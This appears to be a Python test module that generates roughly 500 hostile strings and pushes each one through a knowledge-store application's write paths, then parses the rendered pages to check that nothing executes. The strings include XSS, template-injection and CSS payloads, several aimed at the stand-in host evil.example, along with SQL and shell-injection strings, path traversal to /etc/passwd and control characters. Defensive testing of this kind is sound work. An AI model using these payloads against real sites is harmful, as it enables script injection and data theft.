"""Five hundred texts that want to be more than text, and a memory that every face keeps them in."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from html.parser import HTMLParser

from recollect.errors import RecollectError
from recollect.faces.claims import Actor, AttentionQueue, Claim, EvidenceRef
from recollect.faces.claims.writing import Writer
from recollect.faces.knowledge import (
    EntityMetadata,
    GraphEdge,
    GraphNode,
    KnowledgeBase,
    KnowledgePiece,
)
from recollect.faces.markup import Document, Id, Markup, Node, Space, print_text
from recollect.faces.memory import Memory
from recollect.faces.operations import Operations
from recollect.kernel import Nexus
from recollect.model import PutConcept, PutFact, PutLink

MARK = "m4rk"
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\u200b\u202e\u2066\u2028\ufeff]")

SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"</title><script src=//evil.example/{MARK}></script>",
    f'"><img src=x onerror={MARK}()>',
    f"' autofocus onfocus={MARK}() x='",
    f"<svg/onload={MARK}()>",
    f"</textarea><iframe src=javascript:{MARK}()>",
    f"javascript:{MARK}()",
    f"{{{{ {MARK}.__class__ }}}}{{% raw %}}",
    f"${{{MARK}}}<style>@import'//evil.example/{MARK}'</style>",
    f"--><base href=//evil.example/{MARK}>",
    f"\x1b]8;;http://evil.example/{MARK}\x07x",
    f"a\u202e{MARK}\u2066\u200b",
    f"<form action=//evil.example/{MARK}><button>",
    f"<meta http-equiv=refresh content=0;url=//evil.example/{MARK}>",
    f"\ud7ff\ufeff{MARK}\u2028",
    f"x\r\nset-cookie: {MARK}=1",
)
_EVENTS = [
    "abort",
    "animationend",
    "animationstart",
    "auxclick",
    "beforeinput",
    "beforetoggle",
    "blur",
    "cancel",
    "canplay",
    "change",
    "click",
    "close",
    "contextmenu",
    "copy",
    "cut",
    "dblclick",
    "drag",
    "drop",
    "error",
    "focus",
    "focusin",
    "formdata",
    "hashchange",
    "input",
    "invalid",
    "keydown",
    "keypress",
    "keyup",
    "load",
    "message",
    "mousedown",
    "mouseenter",
    "mouseover",
    "mouseup",
    "pageshow",
    "paste",
    "pointerdown",
    "pointerenter",
    "pointerover",
    "popstate",
    "reset",
    "resize",
    "scroll",
    "scrollend",
    "select",
    "storage",
    "submit",
    "toggle",
    "touchstart",
    "transitionend",
    "unload",
    "wheel",
]
_TAGS = [
    "a",
    "applet",
    "area",
    "audio",
    "base",
    "body",
    "button",
    "details",
    "dialog",
    "embed",
    "form",
    "frame",
    "frameset",
    "iframe",
    "img",
    "input",
    "isindex",
    "link",
    "marquee",
    "math",
    "meta",
    "object",
    "option",
    "portal",
    "select",
    "source",
    "style",
    "svg",
    "table",
    "template",
    "textarea",
    "title",
    "track",
    "video",
    "xml",
    "xmp",
]
_ENDS = [
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</bdi>",
    "</details>",
    "</main>",
    "</option>",
    "</select>",
    "</template>",
    "</noscript>",
    "</svg>",
    "</pre>",
    "</time>",
]
_INSIDE = (
    f"<script>{MARK}()</script>",
    f"<img src=//evil.example/{MARK} onerror={MARK}()>",
    f"<svg><script href=//evil.example/{MARK} />",
    f"<iframe srcdoc='<script>parent.{MARK}()</script>'>",
    f"<base href=//evil.example/{MARK}>",
    f"<link rel=stylesheet href=//evil.example/{MARK}>",
    f"<object data=//evil.example/{MARK}></object>",
    f"<video><source onerror={MARK}()></video>",
    f"<form action=//evil.example/{MARK}><input name=x autofocus onfocus={MARK}()>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<div hx-get=//evil.example/{MARK} hx-trigger=load>",
    f"<div hx-on:load={MARK}() data-hx-on-load={MARK}()>",
)
_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "javascript&colon;",
    "data:text/html,<script>",
    "data:image/svg+xml,<svg/onload>",
    "vbscript:",
    "file:///etc/passwd?",
    "blob:",
    "view-source:",
    "ftp://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\",
    "mailto:",
]
_TEMPLATES = [
    "{{%s}}",
    "{%%%s%%}",
    "{{{%s}}}",
    "{#%s#}",
    "${%s}",
    "#{%s}",
    "<%%=%s%%>",
    "[[%s]]",
    "@{%s}",
    "*{%s}",
    "~{%s}",
    "$%s$",
    "`%s`",
    "{{self.%s}}",
    "{{''.__class__.__mro__[1].%s}}",
    "{%%include'%s'%%}",
    "{{config.%s}}",
    "<#%s>",
    "#if(%s)",
    "%%{%s}",
    "{{constructor.constructor('%s()')()}}",
    "{%%endblock%%}%s",
    "{%%raw%%}%s",
    "{{%s|safe}}",
]
_STYLES = (
    "}body{display:none}/*%s*/",
    "expression(%s())",
    "@import url(//evil.example/%s);",
    "background:url(javascript:%s())",
    "-moz-binding:url(//evil.example/%s#x)",
    "</style><style>*{background:url(//evil.example/%s)}",
    "position:fixed;inset:0;z-index:99999;content:'%s'",
    "\\3c script\\3e %s()",
)
_SIGNS = (
    *(*range(1, 9), *range(11, 32), *range(127, 160), 0xAD, 0x61C, 0x180E),
    *(*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2065)),
    *(*range(0x2066, 0x2070), 0xFEFF, 0xFFF9, 0xFFFA, 0xFFFB),
)
_OTHERS = (
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&#60;script&#62;{MARK}()",
    f"%3Cscript%3E{MARK}()%3C/script%3E",
    f"\\u003cscript\\u003e{MARK}()",
    f"\\x3cscript\\x3e{MARK}()",
    f"+ADw-script+AD4-{MARK}()",
    f"\uff1cscript\uff1e{MARK}()",
    f"<scr<script>ipt>{MARK}()</scr</script>ipt>",
    f"<\x00script>{MARK}()".replace("\x00", ""),
    f"<script/{MARK}/src=//evil.example>",
    f"<!--[if IE]><script>{MARK}()</script><![endif]-->",
    f"<?xml-stylesheet href=//evil.example/{MARK}?>",
    f"<![CDATA[<script>{MARK}()</script>]]>",
    f"'; DROP TABLE concept; -- {MARK}",
    f'") DELETE CONCEPT ?x WHERE {{ ?x {{name: "{MARK}"}} }} //',
    f"../../../../etc/passwd\\{MARK}",
    f"$(touch {MARK}); `touch {MARK}` | touch {MARK}",
    f"=HYPERLINK('//evil.example/{MARK}')",
    f"[{MARK}](javascript:{MARK}())",
    f"\x1b[2J\x1b[31m{MARK}\x1b[0m",
    f"\x1b]0;{MARK}\x07",
    f"\x9b31m{MARK}",
    f"{MARK}\b\b\b\b\b",
    f"\r{MARK}",
    "Z\u0351\u036b\u0343" * 50 + MARK,
    f"{MARK}" + "\u0301" * 500,
    f"\U000e0001\U000e0041{MARK}",
    f"{MARK}\ufffe\uffff",
)
_WORDS = tuple(f"{MARK}{length}" + "W" * length for length in (100, 500, 2_000, 9_000))


def _made() -> Iterator[str]:
    yield from SCRIPTS
    yield from (f"<img src=x on{one}={MARK}()>" for one in _EVENTS)
    yield from (f"<{one} src=javascript:{MARK}() onload={MARK}() style=x:{MARK}>" for one in _TAGS)
    yield from (f"{end}{inside}" for end in _ENDS for inside in _INSIDE)
    yield from (f"{one}{MARK}()" for one in _SCHEMES)
    yield from (f"<a href='{one}{MARK}()'>x</a>" for one in _SCHEMES)
    yield from (one % MARK for one in (*_TEMPLATES, *_STYLES))
    yield from (f"{MARK}{number:x}{chr(number)}txet" for number in _SIGNS)
    yield from (*_OTHERS, *_WORDS)


TEXTS = tuple(dict.fromkeys(_made()))
BATCH = 30  # as many as every page shows
BATCHES = [TEXTS[start : start + BATCH] for start in range(0, len(TEXTS), BATCH)]

PAGES = (
    "/",
    "/ask?q=m4rk",
    "/ask?kip=1",
    '/ask?q=FIND(?x, ?x.attributes) WHERE { ?x {type: "Thing"} } LIMIT 50',
    "/ask?q=FIND(?l, ?l.metadata) WHERE { ?l (?s, ?p, ?o) } LIMIT 50&as=tree",
    "/types?type=Thing",
    "/compare?from=0",
    "/compare?clock=facts&from=1990&to=2030",
    "/claims",
    "/claims?about=m4rk",
    "/lens/run/run",
    "/lens/agent/alpha",
    "/lens/artifact/report",
    "/episodes?last=100",
    "/knowledge",
    "/knowledge?q=m4rk",
    "/markup?fold=none",
    "/care",
    "/care/look?at=duplicates",
    "/care/look?at=orphans",
    "/care/look?at=schema",
    "/graph?id=thing0",
    "/graph?all=1",
    "/element?id=hub",
)


class Tags(HTMLParser):
    """Collects what a browser would act on, and whether the page is whole."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.mains = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = dict(attrs)
        self.mains += tag == "main"
        if tag in ("iframe", "object", "embed", "base", "style", "img", "applet", "frame", "math"):
            self.found.append(tag)
        if tag == "script" and not (told.get("src") or "").startswith("/assets/"):
            self.found.append(f"script {told}")
        if tag == "meta" and "http-equiv" in told:
            self.found.append("meta")
        for name, value in told.items():
            if name.startswith(("on", "hx-on", "data-hx")) or name == "style" or MARK in name:
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction", "hx-get") and not re.match(
                r"[/#](?![/\\])|$", value or "#"
            ):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.found.append(f"comment {data}")


def acted_on(page: str) -> list[str]:
    """Return what of a page is no text and not ours."""
    tags = Tags()
    tags.feed(page)
    tags.close()
    broken = [] if tags.mains == 1 and page.rstrip().endswith("</html>") else ["the page is broken"]
    return tags.found + broken


def fill(nexus: Nexus, operations: Operations, texts: Sequence[str]) -> list[int]:
    """Keep texts through every face; return by how many ways each was kept."""
    nexus.write([PutConcept("Thing", "hub", id="hub")])
    kept = [
        sum(map(_is_taken, _ways(nexus, operations, at, text))) for at, text in enumerate(texts)
    ]
    for text in texts:  # one by one, for a text that is refused takes its document with it
        node = Node(Id("new-1", is_temporary=True), states=("created",), fields=_fields(text))
        document = Document((Space(nodes=(node,)),))
        kept[texts.index(text)] += _is_taken(partial(Markup(nexus).apply, print_text(document)))
    return kept


def _is_taken(way: Callable[[], object]) -> bool:
    """Whether a face takes a text; one that does not says so."""
    try:
        way()
    except RecollectError as error:
        assert error.code.http < 500, error
        return False
    return True


def _ways(
    nexus: Nexus, operations: Operations, at: int, text: str
) -> Iterator[Callable[[], object]]:
    """Yield what keeps a text through a face, each in its own way."""
    line, alpha = text.replace("\r\n", " "), Actor("agent", "alpha")
    base, memory = KnowledgeBase(nexus=nexus), Memory(nexus, actor="bot", is_person=True)
    fact = {"subject": line, "predicate": "p", "object": line, "text": line, "source": line}
    yield lambda: nexus.write(_graph(at, text, line), actor=line[:100], request_id="r")
    yield lambda: _claim(nexus, at, text, alpha)
    yield lambda: AttentionQueue(nexus).reject(text, alpha)
    yield lambda: memory.remember(text)
    yield lambda: memory.remember(facts=[fact])
    yield lambda: operations.call("AddEpisodes", _episode(nexus, at, text))
    yield lambda: base.add_piece(_piece(at, text))
    yield lambda: base.metadata_store.save_metadata(EntityMetadata(line, line, {line: text}))
    yield lambda: base.graph_store.add_nodes([GraphNode(f"n{at}", line, line, {"x": text})])
    yield lambda: base.graph_store.add_relations([GraphEdge(f"n{at}", f"n{at}", line, {})])


def _graph(at: int, text: str, line: str) -> list[PutConcept | PutLink | PutFact]:
    thing = f"thing{at}"
    dates = {"valid_from": "2020-01-01", "source": text}
    return [
        PutConcept("Thing", line, {text: text, "description": text}, {"source": text}, id=thing),
        PutLink("hub", f"p{line[:90]}", thing, {"note": text}, {"source": text}),
        PutFact(thing, "says", "hub", text, metadata=dates),
        PutConcept("SavedQuestion", line, {"text": text}),
    ]


def _claim(nexus: Nexus, at: int, text: str, actor: Actor) -> None:
    evidence = [EvidenceRef("artifact", artifact_id=text, path=text, url=text, detail=text)]
    if at == 0:
        evidence.append(EvidenceRef("artifact", artifact_id="report"))
    about = {"scope_type": "agent", "scope_id": "alpha", "project": text, "tags": [text[:100]]}
    who = Actor("agent", "alpha", run_id="run")
    Writer(nexus).write([Claim(text, evidence, id=f"c{at}", **about)], who)
    Writer(nexus).transition(f"c{at}", "verified", [], None, actor)
    Writer(nexus).transition(f"c{at}", "disputed", evidence, text, actor)


def _episode(nexus: Nexus, at: int, text: str) -> dict[str, object]:
    item = {
        "uuid": f"e{at}",
        "source": "text",
        "name": text[:200],
        "body": text,
        "source_description": text[:200],
        "reference_time": "2026-01-31T09:30:00Z",
    }
    return {"group_id": nexus.group_name, "items": [item]}


def _piece(at: int, text: str) -> KnowledgePiece:
    kinds = {"info_type": text[:100], "tags": [text[:100]], "source": text}
    return KnowledgePiece(text, f"piece{at}", **kinds)


def _fields(text: str) -> dict[str, str]:
    return {"Label": text, "Content": text}
